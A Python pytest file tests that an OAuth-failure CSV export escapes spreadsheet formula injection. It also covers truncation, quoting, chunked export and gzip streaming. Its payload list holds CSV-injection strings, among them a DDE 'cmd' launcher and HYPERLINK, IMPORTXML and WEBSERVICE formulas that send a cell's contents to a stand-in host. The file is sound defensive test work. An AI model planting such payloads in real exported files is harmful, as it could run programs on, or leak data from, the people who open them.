"""Failures as CSV and as JSON lines, without a store."""

import csv
import gzip
import io
import json
import re
import zlib

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from oauth_helper.diagnosis import Candidate, Cause, Stage
from oauth_helper.failures.export import (
    CHUNK,
    COLUMNS,
    ExportFormat,
    compress,
    escape_formulas,
    export_parts,
)
from oauth_helper.failures.model import Event, EventType, Failure
from oauth_helper.scopes import RequestedScopes
from oauth_helper.web.api.failure_schemas import failure_json

# What OWASP names, and what else begins a formula somewhere; written anew, not taken from the code.
STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"


def failure(**changes):
    values = {
        "reference": "2M7G-7JW3-4R5J",
        "profile": "workato",
        "stage": Stage.TOKEN,
        "at": 1_795_000_000.0,
        "started_at": 1_794_999_990,
        "requested": RequestedScopes(("oauth", "tickets"), ("forms",)),
        "candidates": (Candidate(Cause.UNKNOWN, "Nothing."), Candidate(Cause.APP_BLOCKED, "x")),
        "hub_id": 1000104,
    }
    return Failure(**{**values, **changes})


def file_of(failures, form):
    return b"".join(part.data for part in export_parts(map(failure_json, failures), form))


def rows_of(data):
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def begins_a_formula(text):
    """As a careful spreadsheet would see it."""
    seen = re.sub(r"^[\s\x00-\x20\xa0\u200b\ufeff]+", "", text)
    return text[:1] in ("\t", "\r", "\n", "\x00") or seen[:1] in tuple(STARTS)


PAYLOADS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "program": "=cmd|' /C calc'!A0",
    "program after a sum": "@SUM(1+9)*cmd|' /C calc'!A0",
    "link that takes a cell along": '=HYPERLINK("https://example.com/?x="&A1,"Error")',
    "import in Google Sheets": '=IMPORTXML(CONCAT("https://example.com/?v=",A1),"//a")',
    "service in LibreOffice": "=WEBSERVICE('https://example.com')",
    "tab": "\t=1+1",
    "tab alone": "\tplain",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "nul": "\x00=1+1",
    "blanks": "   =1+1",
    "no-break space": "\xa0=1+1",
    "ideographic space": "\u3000=1+1",
    "zero width": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "turned direction": "\u202e=1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1+1",
    "full-width minus": "\uff0d1+1",
    "full-width at": "\uff20SUM(1)",
    "small equals": "\ufe661+1",
    "minus sign": "\u22121+1",
    "full-width after blanks": " \t\uff1d1+1",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_no_cell_begins_a_formula(payload):
    record = failure(
        message=payload,
        assignee=payload,
        client=payload,
        correlation_id=payload,
        missing=(payload,),
        granted=(payload,),
        candidates=(Candidate(Cause.UNKNOWN, payload),),
    )
    (found,) = rows_of(file_of([record], ExportFormat.CSV))
    for name in (
        "message",
        "assignee",
        "client",
        "correlation_id",
        "scopes_concerned",
        "granted",
        "why",
    ):
        assert found[name].startswith("'"), name
        assert without_prefix(found[name]) == payload, name


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("one;=1+1", "one;'=1+1"),
        ("one\n=1+1", "one\n'=1+1"),
        ("one\r\n  @SUM(1)", "one\r\n'  @SUM(1)"),
        ('one;"=1+1"', 'one;\'"=1+1"'),
        ("one\t-1", "one\t'-1"),
        (";\n;=1", ";\n;'=1"),
    ],
)
def test_nor_does_one_for_a_program_that_expects_semicolons(text, safe):
    assert escape_formulas(text) == safe


@pytest.mark.parametrize(
    "text", ["", "plain", "a=b", "x - y", "1+1", "it's", "'=1", "a@example", '"quoted"', "é; è"]
)
def test_what_begins_no_formula_stays_as_it_is(text):
    assert escape_formulas(text) == text


def without_prefix(text):
    return re.sub(r"(^|(?<=[;\t\r\n]))'", "", text)


TEXTS = st.text(
    st.characters(codec="utf-8")
    | st.sampled_from([*STARTS, *";,'\"\t\r\n \xa0\u200b\ufeff", "\x00", "1"]),
    max_size=60,
)


@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=4))
@example([("", "", "\r\x000")])
def test_texts_survive_but_for_the_apostrophe(texts):
    records = [
        failure(
            message=message,
            assignee=name,
            history=(Event(1.0, EventType.COMMENTED, "agent", note),),
        )
        for message, name, note in texts
    ]
    found = rows_of(file_of(records, ExportFormat.CSV))
    for cells, (message, name, note) in zip(found, texts, strict=True):
        assert not any(begins_a_formula(cell) for cell in cells.values())
        assert not any(
            begins_a_formula(rest)
            for cell in cells.values()
            for rest in re.split(r"[;\t\r\n]", cell)[1:]
            if rest.strip("\x00")
        )
        assert without_prefix(cells["message"]) == without_prefix(message)
        assert without_prefix(cells["assignee"]) == without_prefix(name)
        assert note in cells["history"] or without_prefix(note) in without_prefix(cells["history"])


def test_a_text_too_long_for_a_cell_is_cut():
    (found,) = rows_of(file_of([failure(message="a" * 40_000)], ExportFormat.CSV))
    assert len(found["message"]) == 32_767


def test_numbers_stay_numbers_and_all_else_is_quoted():
    lines = (
        file_of([failure(), failure(hub_id=None)], ExportFormat.CSV)
        .decode("utf-8-sig")
        .split("\r\n")
    )
    assert lines[0] == ",".join(f'"{name}"' for name in COLUMNS)
    assert ',"",1000104,"",' in lines[1]
    assert ',"","","",' in lines[2]
    assert lines[3:] == [""]


def test_the_client_that_asked_has_a_column():
    found = rows_of(file_of([failure(client="Flow Tool"), failure()], ExportFormat.CSV))
    assert [cells["client"] for cells in found] == ["Flow Tool", ""]
    lines = file_of([failure(client="Flow Tool"), failure()], ExportFormat.JSONL).splitlines()
    assert [json.loads(line)["client"] for line in lines] == ["Flow Tool", None]


def test_line_ends_in_a_message_stay_in_its_cell():
    message = 'first, "second"\r\nthird\nfourth'
    (found,) = rows_of(file_of([failure(message=message)], ExportFormat.CSV))
    assert found["message"] == message


@pytest.mark.parametrize(
    ("granted", "cell"), [(None, ""), ((), "none"), (("oauth", "tickets"), "oauth tickets")]
)
def test_unknown_is_told_from_nothing(granted, cell):
    (found,) = rows_of(file_of([failure(granted=granted)], ExportFormat.CSV))
    assert found["granted"] == cell


def test_a_row_says_what_the_page_says():
    record = failure(candidates=(Candidate(Cause.USER_DENIED, "They said no."),))
    record = record.with_event(Event(1_795_000_060.0, EventType.RESOLVED, "agent", "Called."))
    (found,) = rows_of(file_of([record], ExportFormat.CSV))
    assert found["title"] == "Cancelled at HubSpot"
    assert found["scope"] == "oauth tickets"
    assert found["optional_scope"] == "forms"
    assert found["history"].endswith("resolved by agent: Called.")
    assert "Customer" in found["who_can_mend_it"]


def test_json_lines_are_what_the_api_gives():
    records = [failure(message="a\nb\u2028c"), failure(granted=())]
    lines = file_of(records, ExportFormat.JSONL).decode().split("\n")
    assert [json.loads(line) for line in lines[:-1]] == [failure_json(each) for each in records]
    assert lines[-1] == ""


@pytest.mark.parametrize("form", ExportFormat)
@pytest.mark.parametrize("count", [0, 1, CHUNK, CHUNK + 1])
def test_parts_make_the_whole(form, count):
    found = list(export_parts((failure_json(failure()) for _ in range(count)), form))
    assert found[-1].written == count
    assert len(found) == max(1, -(-count // CHUNK))
    data = b"".join(part.data for part in found)
    has_header = form is ExportFormat.CSV
    assert data.count(b"2M7G-7JW3-4R5J") == count
    assert data.startswith(b"\xef\xbb\xbf") is has_header
    assert data.count(b'"correlation_id",') == has_header


def test_only_one_part_is_held():
    read = 0

    def each():
        nonlocal read
        for _ in range(5 * CHUNK):
            read += 1
            yield failure_json(failure())

    made = export_parts(each(), ExportFormat.CSV)
    next(made)
    assert read == CHUNK


class TestPacked:
    def test_unpacks_to_the_same_and_each_piece_at_once(self):
        unpacker = zlib.decompressobj(wbits=31)
        made = compress([b"one", b"two"])
        assert unpacker.decompress(next(made)) == b"one"
        assert unpacker.decompress(next(made)) == b"two"
        assert gzip.decompress(b"".join(compress([b"one", b"two"]))) == b"onetwo"

    def test_that_breaks_off_cannot_be_taken_for_the_whole(self):
        def breaking_off():
            yield b"one"
            raise OSError("away")

        made, unpacker = compress(breaking_off()), zlib.decompressobj(wbits=31)
        assert unpacker.decompress(next(made)) == b"one"
        with pytest.raises(zlib.error, match="invalid block type"):
            unpacker.decompress(next(made))
        with pytest.raises(OSError, match="away"):
            next(made)
